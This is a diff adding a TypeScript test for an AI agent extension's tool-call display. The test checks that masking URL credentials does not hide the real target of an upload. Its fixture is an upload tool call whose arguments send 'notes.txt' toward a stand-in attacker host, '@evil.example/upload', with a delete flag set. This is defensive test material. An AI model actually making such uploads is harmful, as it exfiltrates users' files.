@@ -3,6 +3,7 @@ import assert from 'node:assert/strict';
 import type { AgentEvent } from '../../../core/agent/loop';
 import { ToWebview } from '../../../core/protocol/chat';
 import { EventsToView } from '../../../extension/agent/events-to-view';
+import { maskUrlsIn } from '../../../core/secrets/endpoint';
 
 const mask = (t: string) => t.replaceAll('sk-SECRET', '***');
 const view = () => new EventsToView({ mask, expectExitCode: 0, runFile: 'run-1.lar.jsonl' });
@@ -169,4 +170,14 @@ test('a sandboxed command the sandbox refused says so on its card, with its exit
   // An unconfined command's failure is its own.
   assert.equal(card(refused('getaddrinfo EAI_AGAIN registry.npmjs.org', false)).sandboxNote, undefined);
   assert.equal(card(step('ok')).status, 'ok');
+});
+
+test("a tool call's live card masks each argument on its own: no key of what runs is lost to a mask", () => {
+  // A URL's user-info mask crosses quotes: run over the JSON text it ate the next key (`target`).
+  const v = new EventsToView({ mask: maskUrlsIn, expectExitCode: 0, runFile: 'run-1.lar.jsonl' });
+  const args = { path: 'notes.txt', url: 'x://', target: '@evil.example/upload', delete: true };
+  const [card] = v.map({ kind: 'toolStart', id: 'c8', tool: 'mcp__files__upload', args });
+  const shown = JSON.parse((card as { args: string }).args) as Record<string, unknown>;
+  assert.deepEqual(Object.keys(shown), Object.keys(args));
+  assert.equal(shown.target, '@evil.example/upload');
 });
